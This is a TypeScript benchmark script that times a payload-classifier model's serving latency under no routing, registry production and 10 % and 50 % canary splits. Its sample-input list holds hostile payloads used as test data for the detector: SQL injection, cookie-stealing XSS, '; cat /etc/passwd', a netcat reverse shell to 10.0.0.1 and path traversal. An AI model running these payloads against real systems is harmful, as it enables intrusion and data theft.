// Serving latency with and without canary routing (docs/models.md "Serving"): predict-payload as
// the route runs it in-process (routing, shadow scoring, breaker, cache, statistics; HTTP
// excluded), uncached (the cache is cleared before each timed call) and cached, for:
//   committed   — no registry: the committed model serves everything (no routing);
//   production  — a registry production model, no candidate (no routing);
//   canary 10 % / 50 % — a candidate at that share, production scoring every candidate answer
//                 and SERVING_SHADOW_SAMPLE (0.1) of its own with the candidate.
// Production and candidate load the same committed artifact under two ids, so the difference is
// the routing and shadow scoring, not two models of different cost. PGlite in memory, a
// filesystem object store in a temporary directory.
// Run: npx tsx ops/bench/serving-bench.ts [--calls 40000]
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createDb } from '../../db/client';
import { DEFAULT_MODEL_DIR } from '../../domain/threat/detection/model-io';
import { routingKey, routesToCandidate } from '../../domain/threat/serving/router';
import { createFsObjectStore } from '../../objects/fs-store';
import { registerModel } from '../../repo/datasets/models';
import { addSamples, snapshotDataset } from '../../repo/datasets/samples';
import { setServingSplit } from '../../repo/models/serving-split';
import { ModelServer } from '../../runtime/serving/model-server';

const PAYLOADS = [
  'madrid', '42', "O'Brien", 'alice@example.com', '2024-03-15', 'https://example.com/search?q=shoes&page=2',
  'Please select a drop-down option before you continue.', '{"name": "Alice", "tags": ["a", "b"]}',
  "1' OR '1'='1", "-1' UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables--",
  '<img src=x onerror=alert(document.cookie)>', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '; cat /etc/passwd',
  '| nc -e /bin/sh 10.0.0.1 4444', '..%252f..%252f..%252fetc%252fpasswd', '....//....//....//windows/win.ini',
];
const ci = process.argv.indexOf('--calls');
const CALLS = ci > 0 ? Number(process.argv[ci + 1]) : 40_000;
// Distinct payloads, so routing spreads them as it spreads real traffic.
const payloadAt = (i: number) => `${PAYLOADS[i % PAYLOADS.length]} ${i % 997}`;
const pct = (xs: number[], p: number) => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor(p * xs.length))];
const us = (x: number) => `${x.toFixed(1)} µs`;

const handle = await createDb({ pglitePath: 'memory://' });
const db = handle.db;
const dir = mkdtempSync(join(tmpdir(), 'bulwark-serving-bench-'));
const objects = createFsObjectStore(dir);
const committed = readFileSync(join(DEFAULT_MODEL_DIR, `${readFileSync(join(DEFAULT_MODEL_DIR, 'LATEST'), 'utf8').trim()}.json`));
await addSamples(db, [{ data: 'hello', label: 'benign', source: 'bench' }]);
const { version } = await snapshotDataset(db, 'bench');
for (const id of ['bench-prod', 'bench-cand']) {
  const key = `models/payload-classifier/${id}.json`;
  const { sha256 } = await objects.put(key, committed, {});
  await registerModel(db, { id, kind: 'payload-classifier', datasetVersion: version.version, datasetHash: version.contentHash, codeVersion: 'bench', artifactKey: key, artifactSha256: sha256, metrics: {}, gates: [], training: {}, workflowId: 'bench' });
}

async function measure(label: string, server: ModelServer) {
  for (let i = 0; i < 2000; i++) await server.predict(payloadAt(i)); // warm-up: load, JIT
  const uncached: number[] = [];
  for (let i = 0; i < CALLS; i++) {
    server.cache.clear();
    const s = performance.now();
    await server.predict(payloadAt(i));
    uncached.push((performance.now() - s) * 1000);
  }
  const cached: number[] = [];
  for (let i = 0; i < CALLS; i++) {
    const s = performance.now();
    await server.predict(payloadAt(i % 500));
    cached.push((performance.now() - s) * 1000);
  }
  const f0 = performance.now();
  const minutes = server.stats.pending;
  await server.flush();
  const flushMs = performance.now() - f0;
  return { label, p50: pct(uncached, 0.5), p99: pct(uncached, 0.99), cp50: pct(cached, 0.5), cp99: pct(cached, 0.99), flushMs, minutes };
}

const opts = { objects, refreshMs: 5000, flushMs: 0, shadowSample: 0.1 } as const;
const rows = [await measure('committed model, no registry', new ModelServer({ ...opts }))];
await setServingSplit(db, { candidateModelId: 'bench-prod', canaryPercent: 100 });
rows.push(await measure('registry production, no canary', new ModelServer({ ...opts, db })));
for (const percent of [10, 50]) {
  await setServingSplit(db, { candidateModelId: 'bench-cand', canaryPercent: percent });
  rows.push(await measure(`canary ${percent} %`, new ModelServer({ ...opts, db })));
}
// The routing decision alone: normalise + hash.
const keys: number[] = [];
for (let i = 0; i < CALLS; i++) {
  const s = performance.now();
  routesToCandidate(routingKey(payloadAt(i)), { candidateId: 'bench-cand', percent: 10 });
  keys.push((performance.now() - s) * 1000);
}

process.stdout.write(`calls per configuration: ${CALLS}; Node ${process.version}\n`);
process.stdout.write('| configuration | uncached p50 | uncached p99 | cached p50 | cached p99 | stats flush |\n| --- | ---: | ---: | ---: | ---: | ---: |\n');
for (const r of rows) process.stdout.write(`| ${r.label} | ${us(r.p50)} | ${us(r.p99)} | ${us(r.cp50)} | ${us(r.cp99)} | ${r.flushMs.toFixed(1)} ms (${r.minutes} rows) |\n`);
process.stdout.write(`routing decision alone (normalise + hash): p50 ${us(pct(keys, 0.5))}, p99 ${us(pct(keys, 0.99))}\n`);
await handle.close();
rmSync(dir, { recursive: true, force: true });
